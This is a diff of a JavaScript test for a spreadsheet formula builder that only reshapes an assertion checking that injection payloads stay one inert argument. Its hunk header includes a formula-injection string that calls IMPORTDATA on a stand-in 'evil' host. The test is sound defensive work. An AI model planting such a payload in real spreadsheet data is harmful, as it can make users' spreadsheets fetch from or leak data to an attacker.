@@ -15,10 +15,10 @@ it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS, 'a"),IMPORTDATA("https://evil.
   '%j stays one argument of one call, wherever it stands',
   (payload) => {
     const call = readFormulaCall(toListFormula(payload, { tier: null, search: payload }, 25));
-    expect([call?.id, call?.args.map(({ is }) => is), call?.args[0]]).toEqual([
-      'TRACE_LIST',
-      ['value', 'value', 'value'],
-      { is: 'value', value: payload },
-    ]);
+    expect({ id: call?.id, kinds: call?.args.map(({ is }) => is), first: call?.args[0] }).toEqual({
+      id: 'TRACE_LIST',
+      kinds: ['value', 'value', 'value'],
+      first: { is: 'value', value: payload },
+    });
   },
 );
